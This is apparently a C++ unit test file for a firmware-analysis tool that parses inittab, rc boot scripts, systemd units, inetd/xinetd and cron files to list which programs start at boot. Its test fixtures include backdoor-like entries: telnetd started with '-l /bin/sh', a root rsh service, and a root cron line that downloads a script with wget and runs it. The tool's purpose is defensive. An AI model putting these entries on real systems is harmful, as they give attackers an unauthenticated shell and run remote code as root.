#include "readers/started.h"

#include "readers/reader_test.h"

namespace assay::readers {
extern const Reader boot_scripts;
extern const Reader cron;
extern const Reader inetd;
extern const Reader inittab;
extern const Reader systemd_units;
namespace {

using Rows = std::vector<std::string>;

TEST(Started, LooksThroughWrappers) {
  Rows rows;
  for (const Start& start : starts_of_line(
           "start-stop-daemon -S -b -x /usr/sbin/telnetd -- -l /bin/sh; nice -n 5 nohup a b\n"
           "start-stop-daemon -K -x /usr/sbin/x; procd_set_param command /usr/sbin/dropbear -F\n"
           "procd_set_param respawn; echo telnetd; $UNKNOWN -d; -/bin/sh; /bin/busybox ftpd &"))
    rows.push_back(start.program + "|" + start.arguments);
  EXPECT_EQ(rows, (Rows{"/usr/sbin/telnetd|-l /bin/sh", "a|b", "/usr/sbin/dropbear|-F", "/bin/sh|",
                        "/bin/busybox|ftpd"}));
}

TEST(Started, FromInittab) {
  const std::string text =
      "::sysinit:/etc/init.d/rcS S boot\n# ::respawn:/bin/no\nttyS0::askfirst:-/bin/sh\n"
      "::off:/bin/no\n1:2345:respawn:/sbin/getty 38400 tty1\n";
  const auto facts = facts_of_file(inittab, "squashfs/etc/inittab", text);
  EXPECT_EQ(columns(facts, {"program", "arguments", "trigger", "position", "line"}),
            (Rows{"/etc/init.d/rcS|S boot|sysinit|1|1", "/bin/sh||askfirst|2|3",
                  "/sbin/getty|38400 tty1|respawn|3|5"}));
  torture_file(inittab, "inittab", text);
}

TEST(Started, FromBootScripts) {
  const std::string text =
      "#!/bin/sh\nmkdir /var/run\nT=/usr/sbin/telnetd\nif [ -f /etc/debug ]; then\n  $T -l /bin/sh "
      "&\n"
      "fi\nhttpd\nstart() {\n  dropbear -R\n}\nstop_service() { rmmod x; }\nstart; config_load "
      "x\n[ -x /a ] && /a -d\n";
  const auto facts = facts_of_file(boot_scripts, "rootfs/etc_ro/rcS", text);
  EXPECT_EQ(columns(facts, {"program", "arguments", "mechanism", "trigger", "condition", "line"}),
            (Rows{"/usr/sbin/telnetd|-l /bin/sh|rc|rcS|[ -f /etc/debug ]|5", "httpd||rc|rcS|-|7",
                  "dropbear|-R|rc|rcS start()|-|9", "/a|-d|rc|rcS|[ -x /a ]|13"}));
  torture_file(boot_scripts, "etc/rcS", text);
}

TEST(Started, TellsScriptsOfABootFromThoseThatNeedALink) {
  const auto mechanism = [](std::string_view path) {
    const auto facts = facts_of_file(boot_scripts, path, "httpd\n");
    return facts.empty() ? std::string() : column(facts[0], "mechanism");
  };
  for (const auto path : {"etc/rc.d/S50httpd", "etc/init.d/rcS", "etc/rc.local", "etc/rcS.d/S1x0",
                          "etc/rc.d/rc.sysinit", "etc/init.d/S20urandom"})
    EXPECT_EQ(mechanism(path), std::string_view(path) == "etc/rcS.d/S1x0" ? "init.d" : "rc")
        << path;
  EXPECT_EQ(mechanism("etc/init.d/httpd"), "init.d");
  for (const auto path : {"etc/rc.d/K50httpd", "etc/rc.conf", "usr/bin/httpd", "etc/rcS/x"})
    EXPECT_EQ(mechanism(path), "") << path;
}

TEST(Started, FromSystemd) {
  const std::string text =
      "[Unit]\nConditionPathExists=/etc/x\n[Service]\nUser=ftp\nExecStart=-/usr/sbin/vsftpd "
      "/etc/vsftpd.conf\n[Install]\nWantedBy=multi-user.target\n";
  const auto facts = facts_of_file(systemd_units, "lib/systemd/system/vsftpd.service", text);
  EXPECT_EQ(columns(facts, {"program", "arguments", "user", "trigger", "condition", "line"}),
            Rows{"/usr/sbin/vsftpd|/etc/vsftpd.conf|ftp|multi-user.target|ConditionPathExists=/etc/"
                 "x|5"});
  EXPECT_TRUE(facts_of_file(systemd_units, "usr/share/x.service", text).empty());
  torture_file(systemd_units, "lib/systemd/system/x.service", text);
}

TEST(Started, FromInetd) {
  const std::string text =
      "telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd -l\n#ftp stream tcp nowait root x "
      "x\n"
      "tftp dgram udp wait nobody /bin/busybox tftpd /srv\ndaytime stream tcp nowait root "
      "internal\n";
  EXPECT_EQ(columns(facts_of_file(inetd, "etc/inetd.conf", text),
                    {"program", "arguments", "user", "trigger"}),
            (Rows{"in.telnetd|-l|root|telnet stream tcp",
                  "/bin/busybox|tftpd /srv|nobody|tftp dgram "
                  "udp",
                  "internal||root|daytime stream tcp"}));
  torture_file(inetd, "etc/inetd.conf", text);
  const std::string block =
      "service shell\n{\n socket_type = stream\n user = root\n server = /usr/sbin/in.rshd\n"
      " server_args = -h\n}\nservice telnet\n{\n disable = yes\n server = /x\n}\n";
  EXPECT_EQ(columns(facts_of_file(inetd, "etc/xinetd.d/rsh", block),
                    {"program", "arguments", "user", "trigger", "line"}),
            Rows{"/usr/sbin/in.rshd|-h|root|shell stream |1"});
  torture_file(inetd, "etc/xinetd.d/rsh", block);
}

TEST(Started, FromCron) {
  const std::string user = "*/5 * * * * wget -q http://h/u.sh -O /tmp/u && sh /tmp/u\n@reboot /x\n";
  EXPECT_EQ(columns(facts_of_file(cron, "etc/crontabs/root", user),
                    {"program", "arguments", "user", "trigger", "line"}),
            (Rows{"wget|-q http://h/u.sh -O /tmp/u|root|*/5 * * * *|1",
                  "sh|/tmp/u|root|*/5 * * * *|1", "/x||root|@reboot|2"}));
  EXPECT_EQ(columns(facts_of_file(cron, "etc/crontab", "1 2 * * * bin /usr/bin/y -z\n"),
                    {"program", "arguments", "user"}),
            Rows{"/usr/bin/y|-z|bin"});
  torture_file(cron, "etc/crontabs/root", user);
}

}  // namespace
}  // namespace assay::readers
